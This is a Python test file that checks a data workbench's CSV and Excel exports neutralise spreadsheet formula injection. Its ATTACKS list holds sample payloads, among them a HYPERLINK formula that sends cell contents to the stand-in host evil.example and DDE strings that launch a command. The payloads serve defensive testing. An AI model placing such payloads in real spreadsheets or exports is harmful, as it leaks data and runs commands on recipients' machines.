"""Downloads: text that would run as a spreadsheet formula is neutralised, numbers stay numbers."""

from __future__ import annotations

import io

import numpy as np
import openpyxl
import pandas as pd

import workbench as wb
from workbench.io import csv_text, excel_bytes, neutralise_formulas

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _frame() -> pd.DataFrame:
    n = len(ATTACKS) + 2
    return pd.DataFrame(
        {
            "member": [*ATTACKS, "JFK", None],
            "kind": pd.Categorical([*ATTACKS, "JFK", "JFK"]),
            "amount": np.linspace(-5, 5, n),  # negative numbers are numbers, not formulas
            "count": np.arange(-3, n - 3),
        }
    ).rename(columns={"kind": "=kind"})


def test_text_cells_and_headers_are_quoted_and_numbers_kept():
    out = neutralise_formulas(_frame())
    assert out["member"].tolist()[:-1] == [*("'" + a for a in ATTACKS), "JFK"]
    assert pd.isna(out["member"].iloc[-1])  # missing stays missing
    assert list(out.columns) == ["member", "'=kind", "amount", "count"]
    assert out["'=kind"].tolist()[-1] == "JFK"
    pd.testing.assert_series_equal(out["amount"], _frame()["amount"])
    pd.testing.assert_series_equal(out["count"], _frame()["count"])


def test_csv_bytes_read_back_hold_no_formula():
    back = pd.read_csv(io.StringIO(csv_text(_frame())), keep_default_na=False)
    texts = back["member"].tolist() + back["'=kind"].tolist()
    assert not any(str(t).startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    assert back["member"].tolist()[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
    np.testing.assert_allclose(back["amount"], _frame()["amount"])
    assert back["count"].min() == -3


def test_xlsx_cells_are_text_not_formulas():
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes(_frame(), sheet="=sheet")))
    sheet = book.active
    rows = list(sheet.iter_rows(values_only=False))
    cells = [c for row in rows for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    members = [r[0].value for r in rows[1 : len(ATTACKS) + 1]]
    # XML stores a carriage return as a newline; the quote in front is what matters.
    assert members == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    assert [r[2].value for r in rows[1:3]] == [-5.0, _frame()["amount"][1]]  # numbers
    assert sheet.title == "'=sheet"
    # Without the helper, pandas and openpyxl would have written a formula.
    raw = io.BytesIO()
    _frame().to_excel(raw, index=False)
    unsafe = openpyxl.load_workbook(io.BytesIO(raw.getvalue())).active
    assert unsafe["A2"].data_type == "f"


CATALOG = """\
version: 1
workspace: {workspace}
datasets:
  visits:
    zone: lake
    source: {{path: "{data}/visits.csv"}}
    schema: {{member: string, amount: float}}
cubes:
  by_member:
    source: visits
    dimensions:
      member: {{column: member}}
    measures:
      visits: {{agg: count}}
      amount: {{agg: sum, column: amount}}
"""


def test_cube_explorer_downloads_are_neutralised(client, tmp_path):
    from workbench.views import CubeExplorer, CubeStore

    data = tmp_path / "data"
    data.mkdir()
    visits = pd.DataFrame({"member": [ATTACKS[0], ATTACKS[1], "ok", "ok"], "amount": [-4, 1, 2, 3]})
    visits.to_csv(data / "visits.csv", index=False)
    path = tmp_path / "catalog.yaml"
    path.write_text(CATALOG.format(workspace=tmp_path / "ws", data=data))
    catalog = wb.load_catalog(path)
    ws = wb.Workspace.for_catalog(catalog)
    wb.run_pipeline(catalog, ws, cluster=client.scheduler.address)
    store = CubeStore(catalog_path=str(path), workspace=str(ws.root))
    view = CubeExplorer(store, cube_name="by_member", measure="amount", rows="member")

    back = pd.read_csv(io.StringIO(view._csv().getvalue()))
    got = dict(zip(back.iloc[:, 0], back.iloc[:, 1], strict=True))
    assert got == {"'" + ATTACKS[0]: -4, "'" + ATTACKS[1]: 1, "ok": 5}
    sheet = openpyxl.load_workbook(view._excel()).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells} >= {"'" + ATTACKS[0], "'" + ATTACKS[1], -4}
